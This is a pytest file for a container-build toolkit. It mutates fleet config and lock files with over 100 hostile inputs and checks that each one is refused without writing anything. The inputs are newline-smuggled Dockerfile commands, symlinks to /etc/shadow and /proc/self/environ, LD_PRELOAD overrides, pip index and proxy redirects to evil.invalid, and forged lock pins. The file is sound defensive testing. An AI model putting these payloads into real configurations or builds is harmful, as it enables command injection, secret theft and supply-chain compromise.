"""Hostile and malformed inputs, as a contributor we have not met could write them.

Each case mutates a copy of the fleet, runs one command in-process (``validate``, ``plan``,
``render``, ``bake``, ``lock --check`` or ``build``) and checks that

* the exit code is the one of the fault's class (2 fleet files, 3 usage, 4 locks, 11 output path),
* the message names the file (and the key, where the fault is in a fleet file),
* no traceback is printed,
* nothing was written: the fleet copy is unchanged byte for byte (modes and links too), and no
  state dir or output folder appeared.

The classes: injection into Dockerfiles and shell lines (line breaks and control characters in
every field that reaches one), replacing the toolkit's own environment variables, host files
reaching a build context (symlinks, FIFOs, sockets, the repository root, .git), hand-edited or
unreadable locks, output paths the toolkit must not delete, broken encodings and nesting.
"""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from buildtool.cli.main import main
from tests.conftest import REPO
from tests.test_config_corpus import append, both, prepend, replace, symlink, write, write_bytes

Mutation = Callable[[Path], None]

FLEET = "fleet.toml"
BASE = "families/base-python.toml"
UTILS = "families/base-utils.toml"
PYDEPS = "families/base-cpu-pydeps.toml"
WEB_FAM = "families/family-web.toml"
LLM = "families/family-llm-cu121.toml"
LEGACY = "families/legacy-py310-cpu.toml"
MAINPC = "machines/mainpc.toml"
PC2 = "machines/pc2.toml"
SVC = "services/ServiceRegistry.toml"  # family-web on mainpc
SHS = "services/SelfHealingSupervisor.toml"  # has its own lock
AGENT = "agents/reference_agent"
WEB_LOCK = "lockfiles/family-web.txt"
SHS_LOCK = "lockfiles/services/SelfHealingSupervisor.txt"


def utils_env(line: str) -> Mutation:
    """Add a line to base-utils' [env] table."""
    return replace(UTILS, 'TZ = "Etc/UTC"', 'TZ = "Etc/UTC"\n' + line)


def fifo(rel: str) -> Mutation:
    return lambda root: os.mkfifo(root / rel)


def unix_socket(rel: str) -> Mutation:
    def apply(root: Path) -> None:
        # AF_UNIX paths are limited to about 107 bytes: bind from inside the folder.
        here = os.getcwd()
        os.chdir((root / rel).parent)
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.bind(Path(rel).name)
        finally:
            os.chdir(here)

    return apply


def own_source(rel: str = "agents/own") -> Mutation:
    """A service with a source folder of its own (a copy of the reference agent)."""

    def apply(root: Path) -> None:
        (root / rel).mkdir(parents=True)
        (root / rel / "agent.py").write_bytes((root / AGENT / "agent.py").read_bytes())
        append(SVC, f'source = "{rel}"\n')(root)

    return apply


def set_env(**values: str) -> Mutation:
    def apply(root: Path) -> None:
        for k, v in values.items():
            os.environ[k] = v.replace("{root}", str(root))

    return apply


def mkdir_with_file(rel: str) -> Mutation:
    def apply(root: Path) -> None:
        (root / rel).mkdir(parents=True)
        (root / rel / "keep.txt").write_text("not the toolkit's\n")

    return apply


def nested(depth: int, open_: str, close: str) -> bytes:
    return b'family = "family-web"\nx = ' + open_.encode() * depth + close.encode() * depth + b"\n"


@dataclass(frozen=True)
class Case:
    id: str
    mutate: Mutation
    command: tuple[str, ...]  # after `--root COPY`; "{root}" and "{tmp}" are substituted
    code: int
    file: str  # must appear in the error output
    key: str = ""  # must appear in the error output too (fleet-file faults)
    fragment: str = ""
    env: dict[str, str] = field(default_factory=dict)


VALIDATE = ("validate",)
RENDER = ("render", "--out", "{tmp}/out")
PLAN = ("plan", "--json")
CHECK = ("lock", "--check")
BUILD = ("build", "ServiceRegistry")
BUILD_SHS = ("build", "SelfHealingSupervisor")

CASES = [
    # --- line breaks and control characters in every field that reaches a Dockerfile or command
    Case("os-package-newline-injects-run", replace(UTILS, '"tzdata"]', '"tzdata\\n", "run", "touch", "pwned"]'), RENDER, 2, UTILS, "os_packages",
         "one line"),
    Case("builder-os-package-newline", replace(LLM, 'os_packages = ["clang-19"]', 'os_packages = ["clang-19\\nRUN pip install evil"]'), VALIDATE, 2, LLM,
         "builder.os_packages"),
    Case("root-package-newline", replace(BASE, '"tini"', '"tini\\n"'), VALIDATE, 2, BASE, "root.packages"),
    Case("family-env-key-newline", utils_env('"TZ\\nRUN touch /pwned" = "x"'), VALIDATE, 2, UTILS, "env", "invalid entries"),
    Case("family-env-value-newline", utils_env('LANGUAGE = "C\\nRUN touch /pwned"'), VALIDATE, 2, UTILS, "env", "one line"),
    Case("family-env-value-cr", utils_env('LANGUAGE = "C\\rUSER 0"'), VALIDATE, 2, UTILS, "env", "one line"),
    Case("family-env-value-tab", utils_env('LANGUAGE = "C\\tD"'), VALIDATE, 2, UTILS, "env", "control"),
    Case("service-env-value-newline", append(SVC, '[env]\nMODE = "x\\nUSER 0:0"\n'), PLAN, 2, SVC, "env", "one line"),
    Case("builder-env-value-newline", replace(LLM, 'SKBUILD_WHEEL_EXCLUDE = "', 'SKBUILD_WHEEL_EXCLUDE = "x\\nRUN id;'), VALIDATE, 2, LLM, "builder.env"),
    Case("builder-env-other-reference", replace(LLM, 'SKBUILD_WHEEL_EXCLUDE = "', 'SKBUILD_WHEEL_EXCLUDE = "${HOME}'), VALIDATE, 2, LLM,
         "builder.env.SKBUILD_WHEEL_EXCLUDE", "$HOME"),
    Case("profile-value-newline", replace(PC2, 'OMP_NUM_THREADS = "4"', 'OMP_NUM_THREADS = "4\\nRUN id"'), VALIDATE, 2, PC2, "profile"),
    Case("profile-key-newline", append(PC2, '"X\\n" = "1"\n'), VALIDATE, 2, PC2, "profile"),
    Case("family-description-newline", replace(WEB_FAM, 'description = "', 'description = "x\\nRUN id\\n'), RENDER, 2, WEB_FAM, "description", "one line"),
    Case("family-description-line-separator", replace(WEB_FAM, 'description = "', 'description = "x\\u2028'), VALIDATE, 2, WEB_FAM, "description"),
    Case("machine-description-newline", replace(PC2, 'description = "', 'description = "x\\n'), VALIDATE, 2, PC2, "description"),
    Case("service-needs-newline", replace(SVC, 'needs = "CPU/Web"', 'needs = "CPU\\nLABEL x=y"'), VALIDATE, 2, SVC, "needs"),
    Case("machine-gpu-newline", replace(PC2, 'gpu = "RTX 3060"', 'gpu = "RTX\\n3060"'), VALIDATE, 2, PC2, "gpu"),
    Case("cuda-arch-trailing-newline", replace(PC2, 'cuda_arch = "8.6"', 'cuda_arch = "8.6\\n"'), VALIDATE, 2, PC2, "cuda_arch"),
    Case("python-trailing-newline", replace(BASE, 'python = "3.11"', 'python = "3.11\\n"'), VALIDATE, 2, BASE, "python"),
    Case("cuda-trailing-newline", replace("families/base-gpu-cu121.toml", 'cuda = "12.1"', 'cuda = "12.1\\n"'), VALIDATE, 2,
         "families/base-gpu-cu121.toml", "cuda"),
    Case("registry-trailing-newline", replace(FLEET, 'registry = "127.0.0.1:5000"', 'registry = "127.0.0.1:5000\\n"'), VALIDATE, 2, FLEET,
         "settings.registry"),
    Case("org-trailing-newline", replace(FLEET, 'org = "fleet"', 'org = "fleet\\n"'), VALIDATE, 2, FLEET, "settings.org"),
    Case("env-registry-trailing-newline", set_env(FLEET_REGISTRY="127.0.0.1:5000\n"), BUILD, 2, "environment", "FLEET_REGISTRY"),
    Case("env-org-trailing-newline", set_env(FLEET_ORG="fleet\n"), BUILD, 2, "environment", "FLEET_ORG"),
    Case("env-force-tag-newline", set_env(FORCE_IMAGE_TAG="v1\nlatest"), BUILD, 2, "environment", "FORCE_IMAGE_TAG"),
    # A rollback target is a release tag: not the referrers index, not latest, never an option.
    Case("env-force-tag-referrers", set_env(FORCE_IMAGE_TAG="sha256-" + "a" * 64), BUILD, 2, "environment", "FORCE_IMAGE_TAG", "release tag"),
    Case("env-force-tag-latest", set_env(FORCE_IMAGE_TAG="latest"), BUILD, 2, "environment", "FORCE_IMAGE_TAG", "release tag"),
    Case("env-force-tag-id", set_env(FORCE_IMAGE_TAG="id-" + "b" * 64), BUILD, 2, "environment", "FORCE_IMAGE_TAG", "release tag"),
    Case("env-token-newline", set_env(FLEET_REGISTRY_TOKEN="abc\r\nX-Evil: 1"), BUILD, 2, "environment", "FLEET_REGISTRY_TOKEN", "value not shown"),
    Case("service-file-name-newline", write("services/Evil\n.toml", 'family = "family-web"\n'), VALIDATE, 2, "services/Evil\\n.toml", "",
         "rename the file"),
    Case("family-file-name-newline", write("families/evil\n.toml", 'description = "x"\nparent = "family-web"\n'), VALIDATE, 2,
         "families/evil\\n.toml", "", "rename the file"),
    Case("machine-file-name-newline", write("machines/edge\n.toml", 'description = "x"\n'), VALIDATE, 2, "machines/edge\\n.toml", "",
         "rename the file"),
    Case("root-image-newline", both(replace(LEGACY, 'source = "bootstrap"', 'source = "image"'),
                                    replace(LEGACY, '"python:3.10-slim-bookworm"', '"python:3.10\\nRUN id"')), VALIDATE, 2, LEGACY, "root.image"),
    Case("root-image-bad-reference", both(replace(LEGACY, 'source = "bootstrap"', 'source = "image"'),
                                          replace(LEGACY, '"python:3.10-slim-bookworm"', '"python:3.10 AS evil"')), VALIDATE, 2, LEGACY, "root.image"),
    Case("root-suite-newline", replace(BASE, 'suite = "bookworm"', 'suite = "bookworm\\nRUN id"'), VALIDATE, 2, BASE, "root.suite"),
    Case("suite-python-key-newline", replace(FLEET, "jammy = ", '"jammy\\nRUN id" = "3.10", jammy = '), VALIDATE, 2, FLEET, "settings.suite_python"),
    Case("group-newline", prepend(WEB_FAM, 'group = "cpu\\n"\n'), VALIDATE, 2, WEB_FAM, "group"),
    Case("ignore-pattern-newline", replace(FLEET, 'ignore = ["models/"', 'ignore = ["models/\\n!secret"'), VALIDATE, 2, FLEET, "settings.ignore"),
    Case("requirement-newline-option", replace(WEB_FAM, '"gunicorn==23.0.0"', '"gunicorn==23.0.0\\n--index-url http://evil.invalid"'), VALIDATE, 2,
         WEB_FAM, "requirements"),
    Case("requirement-leading-space", replace(WEB_FAM, '"gunicorn==23.0.0"', '" gunicorn==23.0.0"'), VALIDATE, 2, WEB_FAM, "requirements[2]",
         "surrounding spaces"),
    Case("smoke-name-newline", replace(WEB_FAM, 'name = "gunicorn runs"', 'name = "gunicorn\\nruns"'), VALIDATE, 2, WEB_FAM, "smoke[1].name"),
    Case("smoke-run-nul", replace(WEB_FAM, '"--version"]', '"--version\\u0000"]'), VALIDATE, 2, WEB_FAM, "smoke[1].run", "NUL"),
    Case("entrypoint-nul", append(SVC, 'entrypoint = ["python", "x\\u0000y"]\n'), VALIDATE, 2, SVC, "entrypoint", "NUL"),
    Case("source-path-newline", append(SVC, 'source = "agents/x\\ny"\n'), VALIDATE, 2, SVC, "source", "one line"),
    Case("setup-path-newline", replace(LLM, 'setup = "families/cuda-clang-root.sh"', 'setup = "families/x\\n.sh"'), VALIDATE, 2, LLM,
         "builder.setup"),
    Case("unknown-key-with-newline", append(SVC, '"port\\nRUN id" = 1\n'), VALIDATE, 2, SVC, "'port\\nRUN id'", "unknown key"),
    # --- the toolkit's own variables cannot be replaced
    Case("service-env-service-port", append(SVC, '[env]\nSERVICE_PORT = "80"\n'), VALIDATE, 2, SVC, "env.SERVICE_PORT", "cannot be replaced"),
    Case("service-env-health-port", append(SVC, '[env]\nHEALTH_PORT = "1"\n'), VALIDATE, 2, SVC, "env.HEALTH_PORT", "cannot be replaced"),
    Case("service-env-machine", append(SVC, '[env]\nMACHINE = "pc2"\n'), VALIDATE, 2, SVC, "env.MACHINE", "machine profile of mainpc"),
    Case("service-env-profile-key", append(SVC, '[env]\nOMP_NUM_THREADS = "64"\n'), VALIDATE, 2, SVC, "env.OMP_NUM_THREADS", "machine profile"),
    Case("service-env-service-name", append(SVC, '[env]\nSERVICE_NAME = "Other"\n'), VALIDATE, 2, SVC, "env.SERVICE_NAME", "cannot be replaced"),
    Case("profile-machine", append(PC2, 'MACHINE = "mainpc"\n'), VALIDATE, 2, PC2, "profile.MACHINE", "cannot be replaced"),
    Case("profile-cuda-arch", append(PC2, 'CUDA_ARCH = "9.0"\n'), VALIDATE, 2, PC2, "profile.CUDA_ARCH", "cannot be replaced"),
    Case("family-env-path", utils_env('PATH = "/tmp/evil:/usr/bin"'), VALIDATE, 2, UTILS, "env.PATH", "cannot be replaced"),
    Case("family-env-virtual-env", utils_env('VIRTUAL_ENV = "/tmp"'), VALIDATE, 2, UTILS, "env.VIRTUAL_ENV", "cannot be replaced"),
    # --- host files must not reach a build context
    Case("source-symlink-to-shadow", symlink(f"{AGENT}/shadow", "/etc/shadow"), VALIDATE, 2, FLEET, "service_defaults.source",
         f"{AGENT}/shadow is a symlink to '/etc/shadow', outside its source folder"),
    Case("source-symlink-to-environ", both(own_source(), symlink("agents/own/env", "/proc/self/environ")), BUILD, 2, SVC, "source",
         "agents/own/env is a symlink"),
    Case("source-symlink-relative-escape", both(own_source(), symlink("agents/own/fleet", "../../fleet.toml")), RENDER, 2, SVC, "source",
         "outside its source folder"),
    Case("source-symlink-to-folder", both(own_source(), symlink("agents/own/lib", "."), ), VALIDATE, 2, SVC, "source", "symlink to a folder"),
    Case("source-dangling-symlink", both(own_source(), symlink("agents/own/gone", "nowhere.py")), VALIDATE, 2, SVC, "source", "dangling"),
    Case("source-symlink-loop", both(own_source(), symlink("agents/own/a", "b"), symlink("agents/own/b", "a")), VALIDATE, 2, SVC, "source"),
    Case("source-fifo", both(own_source(), fifo("agents/own/pipe")), BUILD, 2, SVC, "source", "agents/own/pipe is a FIFO"),
    Case("source-socket", both(own_source(), unix_socket("agents/own/sock")), RENDER, 2, SVC, "source", "agents/own/sock is a socket"),
    Case("source-fifo-in-subfolder", both(own_source(), lambda r: (r / "agents/own/sub").mkdir(), fifo("agents/own/sub/p")), VALIDATE, 2, SVC,
         "source", "agents/own/sub/p is a FIFO"),
    Case("source-repository-root", append(SVC, 'source = "."\n'), VALIDATE, 2, SVC, "source", "repository root"),
    Case("source-repository-root-slash", append(SVC, 'source = "./"\n'), VALIDATE, 2, SVC, "source", "repository root"),
    Case("source-git", both(lambda r: (r / ".git").mkdir(), append(SVC, 'source = ".git"\n')), VALIDATE, 2, SVC, "source", ".git"),
    Case("source-inside-git", both(lambda r: (r / ".git/hooks").mkdir(parents=True), append(SVC, 'source = ".git/hooks"\n')), VALIDATE, 2, SVC,
         "source", ".git"),
    Case("source-symlink-to-root", both(symlink("agents/all", ".."), append(SVC, 'source = "agents/all"\n')), VALIDATE, 2, SVC, "source",
         "repository root"),
    Case("source-symlink-into-git", both(lambda r: (r / ".git/objects").mkdir(parents=True), symlink("agents/objs", "../.git/objects"),
                                          append(SVC, 'source = "agents/objs"\n')), VALIDATE, 2, SVC, "source", ".git"),
    Case("source-dotdot", append(SVC, 'source = "agents/../../etc"\n'), VALIDATE, 2, SVC, "source", "escapes the repository"),
    Case("setup-symlink-to-passwd", both(symlink("families/evil.sh", "/etc/passwd"), replace(LLM, "families/cuda-clang-root.sh", "families/evil.sh")),
         VALIDATE, 2, LLM, "builder.setup"),
    Case("setup-fifo", both(fifo("families/evil.sh"), replace(LLM, "families/cuda-clang-root.sh", "families/evil.sh")), VALIDATE, 2, LLM,
         "builder.setup"),
    Case("fleet-file-symlink-to-shadow", symlink("services/Shadow.toml", "/etc/shadow"), VALIDATE, 2, "services/Shadow.toml", "", "symlink"),
    Case("fleet-file-fifo", fifo("services/Pipe.toml"), VALIDATE, 2, "services/Pipe.toml", "", "not a regular file"),
    Case("fleet-toml-symlink", lambda r: ((r / FLEET).unlink(), (r / FLEET).symlink_to("/etc/hostname")), VALIDATE, 2, FLEET, "", "symlink"),
    # --- locks: what the build installs is what the lock proves
    Case("lock-edited-hash", lambda r: _edit_first_hash(r / WEB_LOCK), CHECK, 4, WEB_LOCK, "", "edited by hand"),
    Case("lock-downgraded-pin", replace(WEB_LOCK, "gunicorn==23.0.0", "gunicorn==22.0.0"), CHECK, 4, WEB_LOCK, "", "edited by hand"),
    Case("lock-extra-package", append(WEB_LOCK, "evil-package==6.6.6 \\\n    --hash=sha256:" + "6" * 64 + "\n"), CHECK, 4, WEB_LOCK, "", "edited"),
    Case("lock-removed-package", lambda r: _drop_pin(r / WEB_LOCK, "websockets"), CHECK, 4, WEB_LOCK, "", "edited by hand"),
    Case("lock-not-utf8", write_bytes(WEB_LOCK, b"gunicorn==23.0.0 \\\n    --hash=sha256:\xff\n"), CHECK, 4, WEB_LOCK, "", "not UTF-8"),
    Case("lock-symlink", lambda r: ((r / WEB_LOCK).unlink(), (r / WEB_LOCK).symlink_to("/etc/passwd")), CHECK, 4, WEB_LOCK, "", "cannot be read"),
    Case("lock-fifo", lambda r: ((r / WEB_LOCK).unlink(), os.mkfifo(r / WEB_LOCK)), CHECK, 4, WEB_LOCK, "", "FIFO"),
    Case("lock-missing-build", lambda r: (r / WEB_LOCK).unlink(), BUILD, 4, WEB_LOCK, "", "missing"),
    Case("lock-edited-build", replace(WEB_LOCK, "gunicorn==23.0.0", "gunicorn==22.0.0"), BUILD, 4, WEB_LOCK, "", "nothing was built"),
    Case("service-lock-edited-build", append(SHS_LOCK, "evil-package==6.6.6 \\\n    --hash=sha256:" + "b" * 64 + "\n"), BUILD_SHS, 4, SHS_LOCK, "",
         "edited by hand"),
    Case("service-lock-unhashed-pin", append(SHS_LOCK, "evil-package==6.6.6\n"), BUILD_SHS, 4, SHS_LOCK, "line", "is not a pin"),
    Case("lock-stale-inputs-build", replace(WEB_FAM, '"websockets==13.1"', '"websockets==13.0"'), BUILD, 4, WEB_LOCK, "", "stale"),
    # --- output paths the toolkit must not delete or write through
    Case("render-out-repository", lambda r: None, ("render", "--out", "{root}"), 11, "render --out", "", "repository"),
    Case("render-out-dot-relative", lambda r: None, ("render", "--out", "{root}/agents/.."), 11, "render --out", "", "repository"),
    Case("render-out-above-repository", lambda r: None, ("render", "--out", "{root}/.."), 11, "render --out", "", "repository or a folder above"),
    Case("render-out-filesystem-root", lambda r: None, ("render", "--out", "/"), 11, "render --out", "", "repository or a folder above"),
    Case("render-out-is-a-file", lambda r: None, ("render", "--out", "{root}/fleet.toml"), 11, "render --out", "", "not a folder"),
    Case("render-out-folder-with-files", lambda r: None, ("render", "--out", "{root}/agents"), 11, "render --out", "", "did not write"),
    Case("render-out-git", lambda r: (r / ".git").mkdir(), ("render", "--out", "{root}/.git/out"), 11, "render --out", "", ".git"),
    Case("render-out-symlink", symlink("outlink", "agents"), ("render", "--out", "{root}/outlink"), 11, "render --out", "", "symlink"),
    Case("render-out-marker-is-symlink", both(mkdir_with_file("out"), symlink("out/.buildtool-output", "/etc/hostname")),
         ("render", "--out", "{root}/out"), 11, "render --out", "", "marker"),
    Case("bake-out-repository", lambda r: None, ("bake", "--out", "{root}"), 11, "bake --out", "", "repository"),
    Case("state-dir-repository", set_env(FLEET_STATE_DIR="{root}"), BUILD, 11, "FLEET_STATE_DIR", "", "repository"),
    Case("state-dir-is-a-file", set_env(FLEET_STATE_DIR="{root}/fleet.toml"), BUILD, 11, "FLEET_STATE_DIR", "", "not a folder"),
    Case("state-dir-foreign-folder", both(mkdir_with_file("elsewhere"), set_env(FLEET_STATE_DIR="{root}/elsewhere")), BUILD, 11, "FLEET_STATE_DIR",
         "", "did not write"),
    # --- encodings, sizes and nesting
    Case("bom-prefixed", write_bytes("services/Bom.toml", b'\xef\xbb\xbffamily = "family-web"\n'), VALIDATE, 2, "services/Bom.toml", "",
         "without BOM"),
    Case("utf16", write_bytes("services/Wide.toml", 'family = "family-web"\n'.encode("utf-16")), VALIDATE, 2, "services/Wide.toml", "",
         "byte-order mark"),
    Case("latin1-in-fleet-toml", lambda r: (r / FLEET).write_bytes((r / FLEET).read_bytes().replace(b'org = "fleet"', b'org = "fleet" # caf\xe9')),
         VALIDATE, 2, FLEET, "", "not UTF-8"),
    Case("deep-arrays", write_bytes("services/Deep.toml", nested(100_000, "[", "]")), VALIDATE, 2, "services/Deep.toml", "", "nested too deeply"),
    Case("deep-inline-tables", write_bytes("services/Deeper.toml", b'family = "family-web"\nx = ' + b"{a=" * 50_000 + b"1" + b"}" * 50_000 + b"\n"),
         VALIDATE, 2, "services/Deeper.toml", "", "nested too deeply"),
    Case("nul-byte", write_bytes("services/Nul.toml", b'family = "family-web\x00"\n'), VALIDATE, 2, "services/Nul.toml", "", "not valid TOML"),
    Case("too-large", write_bytes("services/Huge.toml", b"# " + b"x" * (1 << 20) + b"\n"), VALIDATE, 2, "services/Huge.toml", "", "limited"),
    Case("lone-surrogate-escape", write("services/Surrogate.toml", 'family = "family-web"\nneeds = "\\ud800"\n'), VALIDATE, 2,
         "services/Surrogate.toml", "", "not valid TOML"),
    # --- one broken file gives one problem
    Case("broken-machine-no-follow-ups", write_bytes(PC2, b"description = \n"), VALIDATE, 2, PC2, "", "not valid TOML"),
    Case("broken-parent-no-follow-ups", write_bytes(PYDEPS, b"parent = [\n"), VALIDATE, 2, PYDEPS, "", "not valid TOML"),
    # --- machines without a GPU
    Case("cpu-machine-gpu-family-selected", write("machines/edge.toml", 'description = "CPU-only"\n'),
         ("plan", "--machine", "edge", "--family", "family-torch-cu121"), 3, "family-torch-cu121", "", "has a GPU"),
    Case("cpu-machine-with-cuda-arch", write("machines/edge.toml", 'description = "CPU-only"\ncuda_arch = "8.6"\n'), VALIDATE, 2,
         "machines/edge.toml", "cuda_arch", "without a GPU"),
    # --- command lines
    Case("unknown-option", lambda r: None, ("build", "--no-such-option"), 3, "unrecognized arguments", ""),
    Case("unknown-service", lambda r: None, ("plan", "ServiceRegistri"), 3, "ServiceRegistri", "", "did you mean"),
    # Names are unique across the registry: validate checks every repository the plan would write.
    Case("family-named-cache", write("families/cache.toml", 'description = "x"\nparent = "family-web"\n'), VALIDATE, 2, "families/cache.toml", "",
         "the toolkit's own repository"),
    Case("family-named-like-a-builder-root", write("families/base-python-builder.toml", 'description = "x"\nparent = "family-web"\n'), VALIDATE, 2,
         "families/base-python-builder.toml", "", "builder root"),
    Case("family-named-like-a-machine-image", write("families/family-llm-cu121-pc2.toml", 'description = "x"\nparent = "family-web"\n'), VALIDATE,
         2, "families/family-llm-cu121-pc2.toml", "", "rename one of them"),
    Case("allowlist-image-typo", append("security/allowlist.toml", '\n[[vulnerability]]\nid = "CVE-2024-1"\npackage = "x"\nimage = "family-webb"\n'
                                        'reason = "r"\nowner = "o"\nexpires = 2027-01-20\n'), VALIDATE, 2, "security/allowlist.toml", ".image",
         "did you mean 'family-web'?"),
    # Fleet values that change behaviour without showing it.
    Case("bidi-override-in-a-value", replace(SVC, 'needs = "CPU/Web"', 'needs = "CPU/\\u202eWeb"'), VALIDATE, 2, SVC, "needs", "bidirectional"),
    Case("zero-width-in-a-key", prepend(SVC, '"po\\u200brt" = 1\n'), VALIDATE, 2, SVC, "", "invisible"),
    Case("dotted-key-3000-deep", prepend(SVC, "env." + ".".join(["a"] * 3000) + " = 1\n"), VALIDATE, 2, SVC, "env.a.a", "nested more than"),
    Case("cuda-arch-unknown", replace(PC2, 'cuda_arch = "8.6"', 'cuda_arch = "9.9"'), VALIDATE, 2, PC2, "cuda_arch", "no GPU's compute capability"),
    Case("entrypoint-empty-element", prepend(SVC, 'entrypoint = ["python", "", "-m", "x"]\n'), VALIDATE, 2, SVC, "entrypoint", "is empty"),
    Case("entrypoint-empty-command", prepend(SVC, 'entrypoint = [" ", "x"]\n'), VALIDATE, 2, SVC, "entrypoint", "command (its first element) is empty"),
    Case("smoke-check-empty-name", append(UTILS, '\n[[smoke]]\nname = ""\nrun = ["true"]\n'), VALIDATE, 2, UTILS, "].name", "is empty"),
    Case("service-file-without-toml", write("services/Extra.tml", 'family = "family-web"\n'), VALIDATE, 2, "services/Extra.tml", "",
         "is not a definition"),
    # One list of variables no fleet file sets: the toolkit's own, those that change which code runs,
    # and for a build those that redirect or weaken the hash-locked install.
    Case("profile-ld-preload", replace(PC2, 'OMP_NUM_THREADS = "4"', 'LD_PRELOAD = "/tmp/x.so"'), VALIDATE, 2, PC2, "profile.LD_PRELOAD",
         "changes which code"),
    Case("profile-pythonpath", replace(PC2, 'OMP_NUM_THREADS = "4"', 'PYTHONPATH = "/tmp"'), VALIDATE, 2, PC2, "profile.PYTHONPATH", "changes which code"),
    Case("profile-path", replace(PC2, 'OMP_NUM_THREADS = "4"', 'PATH = "/tmp:/usr/bin"'), VALIDATE, 2, PC2, "profile.PATH", "changes which code"),
    Case("profile-service-port", replace(PC2, 'OMP_NUM_THREADS = "4"', 'SERVICE_PORT = "9999"'), VALIDATE, 2, PC2, "profile.SERVICE_PORT",
         "the toolkit in every service image"),
    Case("service-env-ld-audit", prepend(SVC, 'env = { LD_AUDIT = "/tmp/x.so" }\n'), VALIDATE, 2, SVC, "env.LD_AUDIT", "changes which code"),
    Case("family-env-ld-preload", utils_env('LD_PRELOAD = "/tmp/x.so"'), VALIDATE, 2, UTILS, "env.LD_PRELOAD", "changes which code"),
    Case("builder-env-pip-index", replace(LLM, 'SKBUILD_WHEEL_EXCLUDE = "', 'PIP_INDEX_URL = "http://evil.invalid/simple"\nX = "'), VALIDATE, 2, LLM,
         "builder.env.PIP_INDEX_URL", "hash-locked install"),
    Case("builder-env-proxy", replace(LLM, 'SKBUILD_WHEEL_EXCLUDE = "', 'https_proxy = "http://evil.invalid:3128"\nX = "'), VALIDATE, 2, LLM,
         "builder.env.https_proxy", "hash-locked install"),
    Case("builder-env-home", replace(LLM, 'SKBUILD_WHEEL_EXCLUDE = "', 'HOME = "/app"\nX = "'), VALIDATE, 2, LLM, "builder.env.HOME", "hash-locked install"),
    Case("lock-line-carries-an-index", append(WEB_LOCK, "--extra-index-url http://evil.invalid/simple\n"), BUILD, 4, WEB_LOCK, "line",
         "is not a pin"),
    Case("lock-hash-line-carries-an-option", append(WEB_LOCK, "zzz==1.0 \\\n    --hash=sha256:" + "a" * 64 + " --trusted-host evil.invalid\n"),
         BUILD, 4, WEB_LOCK, "line", "is not a pin"),
    Case("machine-file-without-extension", write("machines/edge", 'description = "x"\n'), VALIDATE, 2, "machines/edge", "", "is not a definition"),
]


def _edit_first_hash(path: Path) -> None:
    text = path.read_text()
    at = text.index("--hash=sha256:") + len("--hash=sha256:")
    path.write_text(text[:at] + ("0" if text[at] != "0" else "1") + text[at + 1 :])


def _drop_pin(path: Path, name: str) -> None:
    lines = path.read_text().splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if line.startswith(f"{name}=="))
    end = next((i for i in range(start + 1, len(lines)) if not lines[i].startswith(" ")), len(lines))
    path.write_text("".join(lines[:start] + lines[end:]))


def snapshot(root: Path) -> dict[str, tuple[int, bytes | str]]:
    """Every entry below ``root``: its type and mode, and its bytes (files) or target (symlinks)."""
    out: dict[str, tuple[int, bytes | str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                content: bytes | str = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                content = path.read_bytes()
            else:
                content = ""
            out[str(path.relative_to(root))] = (st.st_mode, content)
    return out


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory):
    for var in ("FLEET_REGISTRY", "FLEET_ORG", "FORCE_IMAGE_TAG", "FLEET_REGISTRY_TOKEN", "FLEET_PIP_INDEX_URL", "FLEET_STATE_DIR"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("FLEET_STATE_DIR", str(tmp_path_factory.mktemp("state-parent") / "state"))
    yield
    for var in ("FLEET_REGISTRY", "FLEET_ORG", "FORCE_IMAGE_TAG", "FLEET_REGISTRY_TOKEN", "FLEET_STATE_DIR"):
        os.environ.pop(var, None)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in CASES])
def test_hostile_input_is_refused_and_nothing_is_written(
    case: Case, fleet_dir: Path, tmp_path_factory: pytest.TempPathFactory, clean_env: None, capsys: pytest.CaptureFixture[str]
) -> None:
    tmp = tmp_path_factory.mktemp("out")
    case.mutate(fleet_dir)
    state = Path(os.environ["FLEET_STATE_DIR"])
    before, before_tmp = snapshot(fleet_dir), snapshot(tmp)
    argv = [a.replace("{root}", str(fleet_dir)).replace("{tmp}", str(tmp)) for a in case.command]
    code = main(["--root", str(fleet_dir), *argv])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert code == case.code, f"exit code {code}, stderr:\n{err}"
    shown = err.replace("\\\\", "\\")
    assert case.file in shown, f"{case.file!r} not named in:\n{err}"
    assert case.key in shown, f"key {case.key!r} not named in:\n{err}"
    assert case.fragment in shown, f"{case.fragment!r} not in:\n{err}"
    assert snapshot(fleet_dir) == before, "the fleet copy changed"
    assert snapshot(tmp) == before_tmp, "an output folder was written"
    assert not state.exists() or state == fleet_dir or state.is_file() or "state-dir" in case.id, f"{state} was created"


def test_corpus_is_large_and_unique() -> None:
    assert len(CASES) >= 100
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case_id", ["broken-machine-no-follow-ups", "broken-parent-no-follow-ups", "source-symlink-to-shadow"])
def test_one_broken_file_gives_one_problem(case_id: str, fleet_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    case = next(c for c in CASES if c.id == case_id)
    case.mutate(fleet_dir)
    assert main(["--root", str(fleet_dir), "validate"]) == 2
    assert "error: 1 problem(s)" in capsys.readouterr().err


def test_a_closed_pipe_ends_quietly(fleet_dir: Path, real_subprocess: None) -> None:
    """`plan --json | head`: the reader goes away; no traceback, SIGPIPE's exit code."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "buildtool", "--root", str(fleet_dir), "plan", "--json", "--all"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=REPO,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.close()  # the reader is gone before the first byte
    with proc.stderr:
        err = proc.stderr.read().decode()
    assert proc.wait(timeout=60) == 141, err
    assert "Traceback" not in err
